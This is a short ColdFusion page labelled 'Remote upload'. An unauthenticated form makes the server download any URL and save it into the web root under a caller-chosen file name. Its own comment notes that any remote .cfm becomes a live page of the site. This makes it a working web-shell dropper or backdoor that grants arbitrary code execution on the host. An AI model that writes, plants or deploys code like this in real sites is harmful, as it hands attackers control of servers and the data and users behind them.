<!--- "Remote upload": the server downloads the address typed in the form and keeps it in the web
      root under the name typed next to it (a .cfm from anywhere becomes a page of the site). --->
<cfif structKeyExists(form, "src")>
    <cfhttp url="#form.src#" method="get" getasbinary="yes" path="#expandPath('.')#" file="#form.name#" timeout="30">
    <cfoutput>saved #form.name# (#cfhttp.statusCode#)</cfoutput>
</cfif>
<form method="post"><input name="src"><input name="name"><input type="submit"></form>
